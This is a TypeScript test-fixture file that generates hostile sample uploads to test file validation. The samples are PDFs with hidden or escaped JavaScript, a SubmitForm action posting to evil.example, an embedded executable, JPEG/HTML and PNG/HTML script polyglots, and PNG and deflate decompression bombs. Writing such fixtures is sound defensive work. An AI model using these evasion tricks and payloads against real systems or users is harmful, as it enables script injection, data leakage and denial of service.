/** Files for the upload tests, made on the fly (nothing binary in the repository). */
import { randomBytes } from "node:crypto";
import { crc32, deflateSync } from "node:zlib";
import { PDFDocument, PDFName, PDFString } from "pdf-lib";
import sharp from "sharp";

/** A JPEG carrying EXIF with a GPS position (as a phone camera writes it). */
export function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 96, height: 64, channels: 3, background: "#c0392b" } })
    .jpeg()
    .withExif({
      IFD0: { Make: "PhoneCo", Model: "Cheap 1" },
      IFD3: {
        GPSLatitudeRef: "S",
        GPSLatitude: "34/1 36/1 0/1",
        GPSLongitudeRef: "W",
        GPSLongitude: "58/1 22/1 0/1",
      },
    })
    .toBuffer();
}

export function png(): Promise<Buffer> {
  return sharp({ create: { width: 40, height: 30, channels: 3, background: "#2e86c1" } })
    .png()
    .toBuffer();
}

async function pdfWith(change?: (doc: PDFDocument) => void): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]).drawText("Firmato / Signed", { x: 72, y: 760, size: 14 });
  change?.(doc);
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

export const pdf = (): Promise<Buffer> => pdfWith();

export const pdfWithJavaScript = (): Promise<Buffer> =>
  pdfWith((doc) => {
    const action = doc.context.obj({ S: "JavaScript", JS: PDFString.of("app.alert(1)") });
    doc.catalog.set(PDFName.of("OpenAction"), doc.context.register(action));
  });

export const pdfWithEmbeddedFile = (): Promise<Buffer> =>
  pdfWith((doc) => {
    void doc.attach(Buffer.from("MZ payload"), "payload.exe", {
      mimeType: "application/x-msdos-program",
    });
  });

/** A PDF whose trailer declares standard encryption (enough for any reader to need a key). */
export const encryptedPdf = (): Promise<Buffer> =>
  pdfWith((doc) => {
    const encrypt = doc.context.obj({
      Filter: "Standard",
      V: 1,
      R: 2,
      O: PDFString.of("0123456789abcdef0123456789abcdef"),
      U: PDFString.of("fedcba9876543210fedcba9876543210"),
      P: -44,
    });
    doc.context.trailerInfo.Encrypt = doc.context.register(encrypt);
  });

/** A Windows executable: "MZ", a DOS stub and a PE header offset. */
export function executable(): Buffer {
  const b = Buffer.alloc(1024);
  b.write("MZ", 0, "latin1");
  b.writeUInt32LE(0x80, 0x3c);
  b.write("PE\0\0", 0x80, "latin1");
  return b;
}

/** A valid JPEG whose comment segment is an HTML page (a JPEG/HTML polyglot). */
export async function jpegHtmlPolyglot(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 8, height: 8, channels: 3, background: "#fff" } })
    .jpeg()
    .toBuffer();
  const html = Buffer.from("<html><body><script>alert(document.cookie)</script></body></html>");
  const comment = Buffer.alloc(4);
  comment.writeUInt16BE(0xfffe, 0);
  comment.writeUInt16BE(html.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), comment, html, jpeg.subarray(2)]);
}

export interface Part {
  name: string;
  fileName?: string;
  contentType?: string;
  data: Buffer | string;
}

/** A multipart/form-data body, as a browser sends one. */
export function multipartBody(parts: readonly Part[]): { payload: Buffer; contentType: string } {
  const boundary = `----inpspin${Math.random().toString(16).slice(2)}`;
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const disposition =
      p.fileName === undefined
        ? `form-data; name="${p.name}"`
        : `form-data; name="${p.name}"; filename="${p.fileName}"`;
    const type =
      p.fileName === undefined
        ? ""
        : `Content-Type: ${p.contentType ?? "application/octet-stream"}\r\n`;
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: ${disposition}\r\n${type}\r\n`));
    chunks.push(typeof p.data === "string" ? Buffer.from(p.data) : p.data);
    chunks.push(Buffer.from("\r\n"));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return {
    payload: Buffer.concat(chunks),
    contentType: `multipart/form-data; boundary=${boundary}`,
  };
}

/** A large photo-like JPEG (random pixels compress badly): about `mb` megabytes. */
export function noisyJpeg(mb: number): Promise<Buffer> {
  const side = Math.round(Math.sqrt((mb * 1024 * 1024) / 1.6));
  const raw = randomBytes(side * side * 3);
  return sharp(raw, { raw: { width: side, height: side, channels: 3 } })
    .jpeg({ quality: 95 })
    .toBuffer();
}

/** A PDF with a page image of `mb` megabytes of random (incompressible) data in a stream. */
export async function bigPdf(mb: number): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const jpeg = await noisyJpeg(mb);
  const image = await doc.embedJpg(jpeg);
  doc.addPage([595, 842]).drawImage(image, { x: 0, y: 0, width: 595, height: 842 });
  return Buffer.from(await doc.save());
}

/** A PDF whose OpenAction names JavaScript with lower-case hex escapes (/#4aS, /#4aavaScript). */
export async function pdfWithEscapedJavaScript(): Promise<Buffer> {
  const text = (await pdf()).toString("latin1");
  const patched = text.replace(
    /\/Type \/Catalog/u,
    "/Type /Catalog /OpenAction << /S /#4aavaScript /#4aS (app.alert(1)) >>",
  );
  return Buffer.from(patched, "latin1");
}

export const pdfWithSubmitForm = (): Promise<Buffer> =>
  pdfWith((doc) => {
    const action = doc.context.obj({ S: "SubmitForm", F: PDFString.of("https://evil.example/") });
    doc.catalog.set(PDFName.of("OpenAction"), doc.context.register(action));
  });

/** JavaScript inside a compressed object stream (how most modern PDFs are written). */
export async function pdfWithJavaScriptInObjectStream(): Promise<Buffer> {
  const doc = await PDFDocument.load(await pdfWithJavaScript());
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, "latin1");
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** A PNG declaring 30000 × 30000 pixels (a decompression bomb's header). */
export async function pngBomb(): Promise<Buffer> {
  const small = await png();
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(30_000, 0);
  ihdr.writeUInt32BE(30_000, 4);
  ihdr.writeUInt8(8, 8);
  ihdr.writeUInt8(2, 9);
  return Buffer.concat([small.subarray(0, 8), pngChunk("IHDR", ihdr), small.subarray(33)]);
}

/** A valid PNG with an HTML page in a tEXt chunk. */
export async function pngWithHtml(): Promise<Buffer> {
  const small = await png();
  const text = pngChunk("tEXt", Buffer.from("Comment\0<html><script>alert(1)</script></html>"));
  return Buffer.concat([small.subarray(0, 33), text, small.subarray(33)]);
}

async function withObject(object: string): Promise<Buffer> {
  const text = (await pdf()).toString("latin1");
  const at = text.lastIndexOf("xref");
  return Buffer.from(`${text.slice(0, at)}${object}\n${text.slice(at)}`, "latin1");
}

/** JavaScript inside the data of a stream whose /Length stops short (a reader following the
 * cross-reference table would find it; a front-to-back parser skips it). */
export const pdfWithObjectHiddenInStream = (): Promise<Buffer> =>
  withObject(
    "99 0 obj << /Length 5 >> stream\n12345 98 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\nendstream endobj",
  );

/** An object stream of 300 KB inflating to 40 MB (the parser would inflate it whole). */
export const pdfObjectStreamBomb = (): Promise<Buffer> => {
  const bomb = deflateSync(Buffer.alloc(40 * 1024 * 1024, 0x20));
  return withObject(
    `97 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >> stream\n${bomb.toString("latin1")}\nendstream endobj`,
  );
};
